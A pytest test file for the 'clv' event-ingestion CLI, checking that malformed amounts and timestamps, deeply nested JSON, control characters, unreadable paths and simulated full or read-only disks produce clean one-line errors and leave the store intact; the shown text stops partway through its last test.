"""Hostile input, broken disks and odd terminals (issue #9): never a traceback, never a lost or deleted byte.

Every case asserts the rule, not what the code happens to do: no traceback anywhere, an error is one line
on stderr with exit status 1 (2 for usage), rejected events are rejected one by one, every ingest summary
keeps read = ingested + updated + duplicates + rejected, a file that fails leaves the store as it was,
nothing the tool did not create is deleted, and nothing from a file, argument or prompt reaches the
terminal or the log with raw control characters. Disks that are full or read-only are simulated by
monkeypatching the calls that write (we run as root, so chmod would not stop anything) or by /dev/full.
The store is one Delta table under DATA_DIR/events holding the events and the held rejected events.
"""
from __future__ import annotations

import builtins
import csv
import errno
import io
import json
import logging
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import orjson
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from deltalake import DeltaTable, write_deltalake

from clv import store as store_module
from clv.store import Change, DeltaStore

from helpers import (
    MESSY,
    PROCESS,
    ROOT,
    SAMPLE,
    Result,
    customer,
    image,
    order,
    run,
    visit,
    within,
    write_json,
    write_lines,
)

T = "2017-01-06T12:00:00Z"
SAMPLE_CUSTOMER = "96f55c7d8f42"
BASE = [customer("c1", T, last_name="Smith"), visit("v1", T, "c1"), order("o1", T, "c1", "10 USD")]
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # raw C0 (newline aside), DEL and C1
LOG_ENTRY = re.compile(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2},\d{3} [A-Z]+ ")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"\d+(\.\d+)?([eE][-+]?\d+)?")
EXPORTED = ("customers", "site_visits", "images", "orders", "ltv")
TIME_LIMIT = 10.0  # seconds any single in-process run may take before it counts as hung




def options(base: Path) -> list[str]:
    return ["--data-dir", str(base / "data"), "--logs-dir", str(base / "logs")]


def error_line(result: Result) -> str:
    """The one error line of a failed run (warning lines are status lines, not errors)."""
    lines = [line for line in result.stderr.splitlines() if line.strip() and not line.startswith("warning:")]
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr[-3000:]
    return lines[0]


def answer(result: Result) -> object:
    """The JSON a command printed, once it succeeded (orjson: held events may be nested 1,000 deep)."""
    assert result.returncode == 0, result.stderr[-3000:]
    return orjson.loads(result.stdout)


def figures(result: Result) -> dict:
    """The `ingest --format json` object, with the count invariant checked for the run and for each file."""
    data = json.loads(result.stdout)
    for part in [data, *data.get("files", [])]:
        assert part["read"] == part["ingested"] + part["updated"] + part["duplicates"] + part["rejected"], part
        assert sum(part["rejected_by_reason"].values()) == part["rejected"], part
    return data


def assert_safe(*texts: str) -> None:
    """Text fit for a terminal or the log: no raw control character, and valid UTF-8 (no lone surrogate)."""
    for text in texts:
        found = CONTROL.search(text)
        assert found is None, f"raw {found.group()!r} in {text[max(0, found.start() - 200):found.end() + 200]!r}"
        text.encode("utf-8")


def assert_log_safe(logs: Path) -> None:
    """process.log is UTF-8, every line is one entry that starts with its time, and none holds a control byte."""
    log = logs / "process.log"
    if not log.exists():
        return
    text = log.read_bytes().decode("utf-8")
    for line in text.splitlines():
        assert LOG_ENTRY.match(line), f"a log entry was split: {line[:300]!r}"
    assert_safe(text)


def files(folder: Path) -> dict[str, bytes]:
    """Every regular file under folder with its bytes (LOCK aside: it only names the last writer)."""
    if not folder.is_dir():
        return {}
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and not p.is_symlink() and p.name != "LOCK"}


def state(base: Path) -> dict[str, bytes]:
    """The store, its held rejected events included, byte for byte."""
    return files(base / "data")


def events_dir(base: Path) -> Path:
    """The store's Delta table."""
    return base / "data" / "events"


def table_files(base: Path, table: str) -> list[Path]:
    """The Parquet files of one table (or of the held events) that the current version references."""
    return sorted(Path(uri) for uri in DeltaTable(str(events_dir(base))).file_uris()
                  if f"/table_name={table}/" in uri)


def last_entry(base: Path) -> Path:
    """The log entry of the newest version."""
    return max((events_dir(base) / "_delta_log").glob("*.json"))


def edit_entry(entry: Path, edit: Callable[[list], list]) -> None:
    """Rewrite a log entry (one JSON action a line) with its actions edited."""
    actions = [json.loads(line) for line in entry.read_text().splitlines()]
    entry.write_text("".join(json.dumps(action) + "\n" for action in edit(actions)))


def held_events(clv, opts: list | None = None) -> list:
    """The held rejected events, as `rejects --format json` lists them."""
    return answer(clv("rejects", "--format", "json", opts=opts))


def warnings(result: Result) -> list[str]:
    """The warning lines of a run (the log's warnings go to the process's own stderr)."""
    return [line for line in (result.stderr + result.leaked_err).splitlines() if line.startswith("warning:")]


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def event_bytes(events: list, shape: str, replace: dict[str, str] | None = None) -> bytes:
    """Events as a JSON array or JSON Lines; replace swaps JSON strings for raw text (deep nesting)."""
    parts = [json.dumps(e) for e in events]
    if shape == "array":
        text = "[\n" + ",\n".join(parts) + "\n]\n"
    else:
        text = "".join(p + "\n" for p in parts)
    for old, new in (replace or {}).items():
        text = text.replace(json.dumps(old), new)
    return text.encode("utf-8")


def write_events(path: Path, events: list) -> Path:
    return (write_lines if path.suffix == ".jsonl" else write_json)(path, events)


@pytest.fixture
def clv(dirs, capfd):
    """`clv ARGS` in-process with this test's store and logs, checking what every run must hold."""
    def call(*args, stdin: str | None = None, opts: list[str] | None = None, session: bool = False,
             limit: float = TIME_LIMIT) -> Result:
        with within(limit):
            result = run([*(dirs if opts is None else opts), *args], stdin=stdin)
        leaked = capfd.readouterr()
        result.leaked, result.leaked_err = leaked.out, leaked.err
        for text in (result.stdout, result.stderr, leaked.out, leaked.err):
            assert "Traceback" not in text, text[-3000:]
            assert "--- Logging error ---" not in text, text[-3000:]
        assert result.returncode in (0, 1, 2, 130), result
        if result.returncode in (1, 2) and not session:
            error_line(result)
        return result
    return call


@pytest.fixture(scope="module")
def sample_base(tmp_path_factory) -> Path:
    """A store and logs holding sample_input/events.txt, copied by the tests that use it."""
    base = tmp_path_factory.mktemp("sample")
    assert run([*options(base), "ingest", SAMPLE]).returncode == 0
    return base


@pytest.fixture(scope="module")
def messy_base(sample_base, tmp_path_factory) -> Path:
    """The sample store after sample_input/messy_events.jsonl too: nine rejected events held."""
    base = tmp_path_factory.mktemp("messy")
    for name in ("data", "logs"):
        shutil.copytree(sample_base / name, base / name)
    assert run([*options(base), "ingest", MESSY]).returncode == 0
    return base


def _copy(base: Path, tmp_path: Path) -> Path:
    for name in ("data", "logs"):
        shutil.copytree(base / name, tmp_path / name, symlinks=True)
    return tmp_path


@pytest.fixture
def seeded(sample_base, tmp_path) -> Path:
    """This test's own copy of the sample store (the folders the `dirs` options point at)."""
    return _copy(sample_base, tmp_path)


@pytest.fixture
def messy(messy_base, tmp_path) -> Path:
    """This test's own copy of the store holding the sample and the messy events (the `dirs` folders)."""
    return _copy(messy_base, tmp_path)


def ingest_events(clv, tmp_path: Path, events: list, name: str = "events.jsonl") -> dict:
    result = clv("ingest", write_events(tmp_path / name, events), "--format", "json")
    assert result.returncode == 0, result.stderr
    return figures(result)


def read_commands(tmp_path: Path, customer_id: str) -> dict[str, list]:
    return {"ltv": ["ltv", "10"], "ltv-json": ["ltv", "10", "--format", "json"], "stats": ["stats", "--format", "json"],
            "display": ["display"], "customer": ["customer", customer_id],
            "export": ["export", tmp_path / "export", "--force"], "predict": ["predict"]}


def every_read_answers(clv, tmp_path: Path, customer_id: str = "c1", opts: list[str] | None = None) -> None:
    """ltv (table and JSON), stats, display, customer, export and predict all answer; predict may say in one line
    that it cannot fit its models."""
    for name, args in read_commands(tmp_path, customer_id).items():
        result = clv(*args, opts=opts)
        assert result.returncode in ((0, 1) if name == "predict" else (0,)), (name, result.stderr)


def fed(base: Path, events: list) -> dict:
    """Ingest events into the store in base; the run, the held rejects by key and the LTV rows by customer."""
    result = run([*options(base), "ingest", write_lines(base / "events.jsonl", events), "--format", "json"])
    held = run([*options(base), "rejects", "--format", "json"])
    ranked = run([*options(base), "ltv", "1000", "--format", "json"])
    return {"base": base, "ingest": result,
            "held": {h["event"].get("key"): h["reason"] for h in json.loads(held.stdout or "[]") if "event" in h},
            "ltv": {r["customer_id"]: r for r in json.loads(ranked.stdout or "[]")}}


def summary_of(store: dict) -> dict:
    """The checked ingest summary of a shared store (its failure fails every case that uses it)."""
    assert "Traceback" not in store["ingest"].stdout + store["ingest"].stderr
    assert store["ingest"].returncode == 0, store["ingest"].stderr
    return figures(store["ingest"])


# --- 1. One event must not break the main report -----------------------------------------------------------------

OUT_OF_RANGE_AMOUNTS = {
    "1-and-400-zeros": "1" + "0" * 400 + " USD",
    "exactly-10^12": "1000000000000 USD",
    "10^12-with-cents": "1000000000000.00 USD",
    "23-nines": "9" * 23 + " USD",
    "400-nines-and-a-fraction": "9" * 400 + ".5usd",
}
NOT_AMOUNTS = {
    "inf": "inf USD", "nan": "nan USD", "infinity": "Infinity USD", "exponent": "1e3 USD", "negative-zero": "-0 USD",
    "hex": "0x1A USD", "underscores": "1_000 USD", "two-currencies": "12 EUR USD", "no-number": "USD",
    "nul-inside": "12\u0000 USD",
}
ODD_VALID_AMOUNTS = {
    "400-digit-fraction": ("0." + "0" * 400 + "1 USD", 0.0),
    "zero": ("0 USD", 0.0),
    "leading-dot-lower-case": (".5 usd", 0.5),
    "leading-zeros": ("007 USD", 7.0),
    "500-nines-after-the-point": ("1." + "9" * 500 + " USD", 2.0),
    "just-below-the-limit": ("999999999999.99 USD", 999999999999.99),
}
MANY = 200


@pytest.fixture(scope="module")
def amounts(tmp_path_factory) -> dict:
    """One store fed an order of every odd amount, each for a customer of its own, and 200 orders of
    999,999,999,999.99 for one customer."""
    events = [*BASE]
    for name, amount in {**OUT_OF_RANGE_AMOUNTS, **NOT_AMOUNTS}.items():
        events.append(order(f"o-{name}", T, f"c-{name}", amount))
    for name, (amount, _) in ODD_VALID_AMOUNTS.items():
        events += [customer(f"c-{name}", T), order(f"o-{name}", T, f"c-{name}", amount)]
    events += [order(f"o-many-{i}", T, "c-many", "999999999999.99 USD") for i in range(MANY)]
    return fed(tmp_path_factory.mktemp("amounts"), events)


@pytest.mark.parametrize("name", OUT_OF_RANGE_AMOUNTS)
def test_an_amount_of_10_to_the_12_or_more_is_rejected_alone(amounts, name):
    """The event is rejected on its own (invalid_field), and its customer gets no revenue from it."""
    summary_of(amounts)
    assert amounts["held"].get(f"o-{name}") == "invalid_field"
    assert f"c-{name}" not in amounts["ltv"]


@pytest.mark.parametrize("name", NOT_AMOUNTS)
def test_an_amount_that_is_not_a_plain_decimal_is_rejected_alone(amounts, name):
    """inf, nan, exponents, hex, a sign, two currencies: invalid_field for that event only."""
    summary_of(amounts)
    assert amounts["held"].get(f"o-{name}") == "invalid_field"


@pytest.mark.parametrize("name", ODD_VALID_AMOUNTS)
def test_an_odd_but_valid_amount_is_stored_and_its_customer_answers(clv, amounts, name):
    """Tiny, zero, a leading dot, 500 decimals: stored, and the customer's figures answer."""
    summary_of(amounts)
    assert amounts["ltv"][f"c-{name}"]["total_revenue"] == pytest.approx(ODD_VALID_AMOUNTS[name][1], abs=1e-9)
    assert clv("customer", f"c-{name}", opts=options(amounts["base"])).returncode == 0


def test_many_amounts_just_below_the_limit_sum_without_overflow(amounts):
    """200 orders of 999,999,999,999.99 for one customer: the revenue is their sum."""
    summary = summary_of(amounts)
    assert summary["rejected"] == len(OUT_OF_RANGE_AMOUNTS) + len(NOT_AMOUNTS)
    assert amounts["ltv"]["c-many"]["total_revenue"] == pytest.approx(MANY * 999999999999.99)


def test_every_read_answers_on_a_store_of_odd_amounts(clv, amounts, tmp_path):
    """ltv, stats, display, customer, export and predict over all those amounts."""
    summary_of(amounts)
    every_read_answers(clv, tmp_path, "c-many", opts=options(amounts["base"]))


OUT_OF_RANGE_TIMES = {
    "year-10000-once-in-utc": "9999-12-31T23:59:59-12:00",
    "year-0-once-in-utc": "0001-01-01T00:00:00+00:01",
    "five-digit-year": "10000-01-01T00:00:00Z",
    "year-zero": "0000-12-31T23:59:59Z",
}
EDGE_TIMES = {
    "last-microsecond-of-9999": "9999-12-31T23:59:59.999999Z",
    "a-fraction-that-rounds-into-year-10000": "9999-12-31T23:59:59.9999999Z",
    "first-instant-of-year-1": "0001-01-01T00:00:00Z",
    "zone-plus-99-99": "2017-01-06T12:00:00+99:99",
    "ten-thousand-fraction-digits": "2017-01-06T12:00:00." + "9" * 10_000 + "Z",
}


@pytest.fixture(scope="module")
def times(tmp_path_factory) -> dict:
    """One store fed a visit at every odd instant, each for a customer of its own."""
    events = [*BASE]
    for name, when in {**OUT_OF_RANGE_TIMES, **EDGE_TIMES}.items():
        events += [customer(f"c-{name}", T), visit(f"v-{name}", when, f"c-{name}")]
    return fed(tmp_path_factory.mktemp("times"), events)


@pytest.mark.parametrize("name", OUT_OF_RANGE_TIMES)
def test_an_instant_outside_the_years_1_to_9999_is_rejected_alone(times, name):
    """Year 10000 or year 0 once in UTC (or as written): invalid_field for that event only."""
    summary_of(times)
    assert times["held"].get(f"v-{name}") == "invalid_field"


@pytest.mark.parametrize("name", EDGE_TIMES)
def test_an_instant_at_the_edge_of_time_is_stored_or_rejected_and_its_customer_answers(clv, times, name):
    """The last microsecond of 9999, a fraction that rounds past it, year 1, odd zones, long fractions."""
    summary_of(times)
    assert times["held"].get(f"v-{name}") in (None, "invalid_field")
    assert clv("customer", f"c-{name}", opts=options(times["base"])).returncode == 0


def test_every_read_answers_on_a_store_spanning_year_1_to_year_9999(clv, times, tmp_path):
    """Half a million weeks of timeframe: every report still answers."""
    summary_of(times)
    every_read_answers(clv, tmp_path, "c-first-instant-of-year-1", opts=options(times["base"]))


def _rewrite_orders(data: Path, column: str, value: object) -> None:
    """Put value into every stored order row, as another Delta writer might have: one commit removes the order
    rows, the next adds them back with the value."""
    path = str(data / "events")
    table = DeltaTable(path)
    orders = table.to_pyarrow_table(filters=[("table_name", "=", "orders")])
    index = orders.schema.get_field_index(column)
    field = orders.schema.field(index)
    orders = orders.set_column(index, field, pa.array([value] * orders.num_rows, type=field.type))
    table.delete("table_name = 'orders'")
    write_deltalake(path, orders, mode="append", partition_by=["table_name", "bucket"])


STORED_VALUES = {
    "an-infinite-amount": ("amount", float("inf")),
    "a-nan-amount": ("amount", float("nan")),
    "amounts-whose-sum-overflows": ("amount", 1.7e308),
    "a-negative-amount": ("amount", -5.0),
    "a-missing-event-time": ("event_time", None),
}


@pytest.fixture(scope="module", params=list(STORED_VALUES))
def odd_store(request, tmp_path_factory) -> Path:
    """A store whose orders hold a value no ingestion accepts today."""
    base = tmp_path_factory.mktemp("stored")
    events = write_lines(base / "events.jsonl", [*BASE, order("o2", "2017-02-06T12:00:00Z", "c1", "5 USD")])
    assert run([*options(base), "ingest", events]).returncode == 0
    _rewrite_orders(base / "data", *STORED_VALUES[request.param])
    return base


@pytest.mark.parametrize("command", ["ltv", "stats", "display", "customer", "export", "predict"])
def test_no_stored_value_breaks_a_read(clv, odd_store, tmp_path, command):
    """However a value got into the store, ltv, stats, display, customer and export answer (predict may refuse
    in one line: a model needs usable amounts)."""
    before = state(odd_store)
    result = clv(*read_commands(tmp_path, "c1")[command], opts=options(odd_store))
    assert result.returncode in ((0, 1) if command == "predict" else (0,)), result.stderr
    if command == "stats":
        json.loads(result.stdout)
    assert state(odd_store) == before


# --- 2. One bad event or file must not abort the run ----------------------------------------------------------


def _with_deep_value(tmp_path: Path, shape: str, depth: int, event: dict) -> Path:
    events = [*json.loads(SAMPLE.read_text()), event]
    path = tmp_path / ("deep.json" if shape == "array" else "deep.jsonl")
    path.write_bytes(event_bytes(events, shape, {"NESTED": nested(depth)}))
    return path


NESTINGS = [(255, "array"), (255, "lines"), (300, "array"), (300, "lines"), (1000, "array"), (1000, "lines"),
            (1022, "array"), (1023, "lines")]  # the last two: as deep as the parser reads the file or the line


@pytest.mark.parametrize(("depth", "shape"), NESTINGS, ids=[f"{d}-{s}" for d, s in NESTINGS])
def test_a_rejected_event_nested_deep_is_held_and_the_run_goes_on(clv, tmp_path, shape, depth):
    """An unknown type carrying a value nested `depth` deep: rejected and held, the rest stored, and the
    held event can be listed and reprocessed (holding it never leaves a line later commands cannot read)."""
    path = _with_deep_value(tmp_path, shape, depth, {"type": "PAYMENT", "verb": "NEW", "key": "p1", "event_time": T,
                                                     "payload": "NESTED"})
    result = clv("ingest", path, "--format", "json")
    assert result.returncode == 0
    summary = figures(result)
    assert summary["ingested"] == 4 and summary["rejected_by_reason"] == {"unknown_type": 1}
    assert len(held_events(clv)) == 1
    assert clv("reprocess").returncode == 0
    assert answer(clv("stats", "--format", "json"))["rejected_held"] == 1


@pytest.mark.parametrize("shape", ["array", "lines"])
def test_a_tag_value_nested_300_deep_never_stops_the_run(clv, tmp_path, shape):
    """A tag value nested 300 deep is kept as JSON text or rejected, never a failed run."""
    path = _with_deep_value(tmp_path, shape, 300, visit("v-deep", T, SAMPLE_CUSTOMER, tags={"t": "NESTED"}))
    result = clv("ingest", path, "--format", "json")
    assert result.returncode == 0
    summary = figures(result)
    assert summary["read"] == 5 and summary["ingested"] >= 4
    assert clv("display").returncode == 0 and clv("customer", SAMPLE_CUSTOMER).returncode == 0


def test_a_json_lines_line_nested_past_the_parser_limit_is_one_malformed_line(clv, tmp_path):
    """Deeper than the parser goes: that line is malformed, the others are stored."""
    path = _with_deep_value(tmp_path, "lines", 1100, {"payload": "NESTED"})
    summary = figures(clv("ingest", path, "--format", "json"))
    assert summary["ingested"] == 4 and summary["rejected_by_reason"] == {"malformed": 1}


def test_a_json_array_nested_past_the_parser_limit_fails_alone_and_changes_nothing(clv, seeded):
    """In an array the same nesting is a file error: one line naming the file, the store as it was."""
    before = state(seeded)
    path = _with_deep_value(seeded, "array", 1100, {"payload": "NESTED"})
    result = clv("ingest", path, "--format", "json")
    assert result.returncode == 1 and "deep.json" in error_line(result)
    assert state(seeded) == before


CONTROL_SUFFIXES = {"newline": "\n", "nul": "\x00", "escape-sequence": "\x1b[2J"}


@pytest.mark.parametrize("shape", ["array", "lines"])
@pytest.mark.parametrize("suffix", CONTROL_SUFFIXES.values(), ids=CONTROL_SUFFIXES.keys())
def test_a_control_character_in_a_type_verb_time_or_amount_rejects_that_event_alone(clv, tmp_path, shape, suffix):
    """A type "CUSTOMER\\n", "NEW\\x00", a time followed by ESC, "1\\n2 USD": each event is rejected with its own reason
    (types, verbs, times and amounts are exact), and the valid event of the file is stored."""
    events = [{**customer("c1", T), "type": "CUSTOMER" + suffix}, customer("c2", T, verb="NEW" + suffix),
              customer("c3", T + suffix), order("o1", T, "c4", "1" + suffix + "2 USD"), customer("c4", T)]
    summary = ingest_events(clv, tmp_path, events, "events.json" if shape == "array" else "events.jsonl")
    assert summary["ingested"] == 1
    assert summary["rejected_by_reason"] == {"unknown_type": 1, "invalid_verb": 1, "invalid_field": 2}


@contextmanager
def denied(monkeypatch, target: Path, err: int = errno.EACCES) -> Iterator[None]:
    """target (and what is under it) cannot be opened or listed, as for a user without the permission."""
    target = os.path.abspath(target)

    def hit(path) -> bool:
        if isinstance(path, int):
            return False
        name = os.path.abspath(os.fsdecode(os.fspath(path)))
        return name == target or name.startswith(target + os.sep)

    def guard(real: Callable) -> Callable:
        def call(path, *args, **kwargs):
            if hit(path):
                raise OSError(err, os.strerror(err), os.fsdecode(os.fspath(path)))
            return real(path, *args, **kwargs)
        return call

    with monkeypatch.context() as patch:
        for owner, name in ((builtins, "open"), (io, "open"), (os, "open"), (os, "scandir"), (os, "listdir")):
            patch.setattr(owner, name, guard(getattr(owner, name)))
        yield


def _unix_socket(tmp_path: Path) -> Path:
    path = tmp_path / "s.json"
    here = os.getcwd()
    os.chdir(tmp_path)  # a socket's path is limited to about 100 bytes
    try:
        server = socket.socket(socket.AF_UNIX)
        server.bind("s.json")
        server.close()
    finally:
        os.chdir(here)
    return path


def _bad_path(kind: str, tmp_path: Path) -> Path | str:
    folder = tmp_path / "bad"
    folder.mkdir()
    if kind == "a-300-character-name":
        return folder / ("x" * 300 + ".json")
    if kind == "a-missing-file":
        return folder / "missing.json"
    if kind == "a-nul-in-the-name":
        return str(folder / "a\x00b.json")
    if kind in ("an-unreadable-folder", "an-unreadable-file"):
        shutil.copy(SAMPLE, folder / "events.json")
        return folder if kind == "an-unreadable-folder" else folder / "events.json"
    if kind == "a-unix-socket":
        return _unix_socket(folder)
    if kind == "a-folder-without-event-files":
        (folder / "notes.md").write_text("no events here")
        return folder
    content = {"an-empty-file": b"", "text-that-is-not-json": b"hello, world\n", "a-broken-gzip": b"\x1f\x8b\x08rubbish",
               "an-array-with-a-syntax-error": b'[{"type": "CUSTOMER"},,]', "bytes-that-are-not-utf8": b'[{"a": "\xff"}]'}
    path = folder / ("events.json.gz" if kind == "a-broken-gzip" else "events.json")
    path.write_bytes(content[kind])
    return path


BAD_PATHS = ["a-300-character-name", "a-missing-file", "a-nul-in-the-name", "an-unreadable-folder",
             "an-unreadable-file", "a-unix-socket", "a-folder-without-event-files", "an-empty-file",
             "text-that-is-not-json", "a-broken-gzip", "an-array-with-a-syntax-error", "bytes-that-are-not-utf8"]


@pytest.mark.parametrize("kind", BAD_PATHS)
def test_a_failing_path_does_not_undo_or_block_the_other_files(clv, tmp_path, monkeypatch, kind):
    """ingest GOOD BAD GOOD: exit 1, one error line, the bad one listed with its error, both good files stored."""
    bad = _bad_path(kind, tmp_path)
    more = write_lines(tmp_path / "more.jsonl", [customer("c8", T), customer("c9", T)])
    with denied(monkeypatch, bad) if kind.startswith("an-unreadable") else monkeypatch.context():
        result = clv("ingest", SAMPLE, bad, more, "--format", "json")
    assert result.returncode == 1
    error_line(result)
    summary = figures(result)
    assert summary["failed_files"] == 1 and len(summary["files"]) == 3
    assert sorted(f["source"] for f in summary["files"] if not f.get("error")) == sorted([str(SAMPLE), str(more)])
    assert summary["store_size_after"] == 6
    assert DeltaStore(tmp_path / "data").snapshot().size() == 6


@pytest.mark.parametrize("kind", ["a-300-character-name", "an-unreadable-folder", "a-nul-in-the-name"])
def test_a_failing_path_at_the_menu_keeps_the_session_and_the_good_file(clv, tmp_path, monkeypatch, kind):
    """At the Ingest prompt: the good file is stored and the menu goes on to the Overview."""
    bad = _bad_path(kind, tmp_path)
    typed = f"1\n{SAMPLE} {bad}\n\n\n6\n4\n"  # blank answers go back, should a prompt ask again
    with denied(monkeypatch, bad) if kind.startswith("an-unreadable") else monkeypatch.context():
        result = clv("menu", stdin=typed, session=True)
    assert result.returncode == 0
    assert "rejected events held" in result.stdout  # the session went on to the Overview
    assert answer(clv("stats", "--format", "json"))["store_size"] == 4


def test_a_deeply_nested_reject_at_the_menu_keeps_the_session(clv, tmp_path):
    """Holding a deeply nested reject from the menu does not end the session."""
    path = _with_deep_value(tmp_path, "lines", 300, {"type": "PAYMENT", "payload": "NESTED"})
    result = clv("menu", stdin=f"1\n{path}\n\n\n6\n4\n", session=True)
    assert result.returncode == 0 and "rejected events held" in result.stdout
    assert answer(clv("stats", "--format", "json"))["store_size"] == 4


# --- 3. Logs that cannot be written are never fatal -----------------------------------------------------------


class BrokenDisk:
    """Writing under root fails with err, as on a full or read-only file system; reading still works.

    torn: the first write to a file under root stores half its bytes before failing (a disk filling up).
    names: only files with these names are affected.
    """

    WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | os.O_TRUNC

    def __init__(self, monkeypatch, root: Path, err: int, torn: bool = False, names: tuple[str, ...] = ()) -> None:
        self.root, self.err, self.torn, self.names = os.path.abspath(root), err, torn, names
        self.spent = False
        self.refused = 0
        self.torn_fds: set[int] = set()
        self.real_write = os.write
        self.patch = monkeypatch

    def hit(self, path) -> bool:
        if isinstance(path, int):
            return False
        name = os.path.abspath(os.fsdecode(os.fspath(path)))
        inside = name == self.root or name.startswith(self.root + os.sep)
        return inside and (not self.names or os.path.basename(name) in self.names)

    def fail(self, path="") -> OSError:
        self.refused += 1
        return OSError(self.err, os.strerror(self.err), os.fsdecode(os.fspath(path)) if path != "" else None)

    def install(self) -> BrokenDisk:
        real_open = builtins.open
        for owner, name in ((builtins, "open"), (io, "open")):
            self.patch.setattr(owner, name, self._open(real_open))
        self.patch.setattr(logging.FileHandler, "_builtin_open", self._open(real_open), raising=False)
        self.patch.setattr(os, "open", self._os_open(os.open))
        self.patch.setattr(os, "write", self._os_write)
        self.patch.setattr(os, "mkdir", self._mkdir(os.mkdir))
        for name in ("replace", "rename"):
            self.patch.setattr(os, name, self._move(getattr(os, name)))
        if self.err == errno.EROFS:
            for name in ("unlink", "remove", "rmdir"):
                self.patch.setattr(os, name, self._refuse(getattr(os, name)))
        return self

    def _open(self, real: Callable) -> Callable:
        def call(file, mode="r", *args, **kwargs):
            if self.hit(file) and any(c in mode for c in "wax+"):
                if not self.torn:
                    raise self.fail(file)
                return _Torn(real(file, mode, *args, **kwargs), self)
            return real(file, mode, *args, **kwargs)
        return call

    def _os_open(self, real: Callable) -> Callable:
        def call(path, flags, *args, **kwargs):
            if self.hit(path) and flags & self.WRITE_FLAGS:
                if not self.torn:
                    raise self.fail(path)
                fd = real(path, flags, *args, **kwargs)
                self.torn_fds.add(fd)
                return fd
            return real(path, flags, *args, **kwargs)
        return call

    def _os_write(self, fd, data):
        if fd in self.torn_fds:
            self.tear(lambda part: self.real_write(fd, part), data)
        return self.real_write(fd, data)

    def tear(self, write: Callable, data) -> None:
        if not self.spent:
            self.spent = True
            write(bytes(data[:len(data) // 2]) if isinstance(data, (bytes, bytearray, memoryview))
                  else data[:len(data) // 2])
        raise self.fail()

    def _mkdir(self, real: Callable) -> Callable:
        def call(path, *args, **kwargs):
            if self.hit(path) and not self.torn:
                if os.path.lexists(path):
                    raise FileExistsError(errno.EEXIST, os.strerror(errno.EEXIST), os.fsdecode(os.fspath(path)))
                raise self.fail(path)
            return real(path, *args, **kwargs)
        return call

    def _move(self, real: Callable) -> Callable:
        def call(src, dst, *args, **kwargs):
            if self.hit(src) or self.hit(dst):
                raise self.fail(dst)
            return real(src, dst, *args, **kwargs)
        return call

    def _refuse(self, real: Callable) -> Callable:
        def call(path, *args, **kwargs):
            if self.hit(path):
                raise self.fail(path)
            return real(path, *args, **kwargs)
        return call


class _Torn:
    """A file object whose first write stores half of what it was given, then fails as a full disk does."""

    def __init__(self, real, disk: BrokenDisk) -> None:
        self._real, self._disk = real, disk

    def write(self, data):
        def partial(part):
            self._real.write(part)
            self._real.flush()
        self._disk.tear(partial, data)

    def writelines(self, lines):
        self.write(b"".join(lines) if "b" in getattr(self._real, "mode", "b") else "".join(lines))

    def __getattr__(self, name):
        return getattr(self._real, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self._real.close()

    def __iter__(self):
        return iter(self._real)


LOGS_TARGETS = ["a-regular-file", "a-path-below-a-file", "the-full-device"]


def _logs_target(kind: str, tmp_path: Path) -> str:
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("keep me\n")
    return {"a-regular-file": str(blocker), "a-path-below-a-file": str(blocker / "logs"),
            "the-full-device": "/dev/full"}[kind]


@pytest.mark.parametrize("command", ["stats", "ltv", "customer", "export"])
@pytest.mark.parametrize("target", LOGS_TARGETS)
def test_reading_with_an_unusable_logs_dir_still_answers(clv, seeded, target, command):
    """--logs-dir on a file or a device: the log cannot be written, and that is not fatal."""
    logs = _logs_target(target, seeded)
    args = {"stats": ["stats"], "ltv": ["ltv", "3"], "customer": ["customer", SAMPLE_CUSTOMER],
            "export": ["export", seeded / "export"]}[command]
    result = clv(*args, opts=["--data-dir", seeded / "data", "--logs-dir", logs])
    assert result.returncode == 0, result.stderr
    assert (seeded / "not-a-folder").read_text() == "keep me\n"


@pytest.mark.parametrize("source", ["clean-file", "file-with-rejects"])
@pytest.mark.parametrize("target", LOGS_TARGETS)
def test_ingest_with_an_unusable_logs_dir_stores_the_events_and_holds_every_reject(clv, seeded, target, source):
    """The log cannot be written: one warning line, and the file goes in all the same. Its rejected events are held
    in the store (the logs folder is not where they go), so none is lost."""
    logs = _logs_target(target, seeded)
    opts = ["--data-dir", seeded / "data", "--logs-dir", logs]
    events = write_lines(seeded / "new.jsonl", [customer("c-new", T), order("o-new", T, "c-new", "3 USD")])
    path = events if source == "clean-file" else MESSY
    result = clv("ingest", path, "--format", "json", opts=opts)
    assert result.returncode == 0, result.stderr
    assert len(warnings(result)) == 1 and warnings(result)[0].startswith("warning: cannot write the log in")
    summary = figures(result)
    held = held_events(clv, opts)
    if source == "clean-file":
        assert summary["ingested"] == 2 and held == []
    else:
        assert summary["rejected"] == 9
        assert sorted(h["position"] for h in held if h.get("source") == str(MESSY)) == list(range(11, 20))
    assert (seeded / "not-a-folder").read_text() == "keep me\n"


@pytest.mark.parametrize("command", [["ingest", SAMPLE], ["ingest", MESSY], ["stats"], ["ltv", "3"], ["display"],
                                     ["reprocess"], ["rejects"]],
                         ids=["ingest-clean", "ingest-with-rejects", "stats", "ltv", "display", "reprocess", "rejects"])
def test_a_full_disk_under_process_log_is_not_fatal_and_prints_no_logging_error(clv, seeded, command):
    """process.log is a link to /dev/full: every write to it fails with ENOSPC; the commands work as ever."""
    log = seeded / "logs" / "process.log"
    log.unlink(missing_ok=True)
    log.symlink_to("/dev/full")
    result = clv(*command)
    assert result.returncode == 0, result.stderr
    assert log.is_symlink()


@pytest.mark.parametrize("err", [errno.EROFS, errno.ENOSPC], ids=["read-only", "full"])
@pytest.mark.parametrize("command", ["stats", "ltv", "ingest-clean", "ingest-with-rejects"])
def test_a_logs_dir_that_refuses_writes_is_not_fatal_and_loses_no_reject(clv, seeded, monkeypatch, err, command):
    """Opening anything for writing under logs/ fails: one warning line, reads answer, and an ingested file goes in
    whole, its rejected events held in the store."""
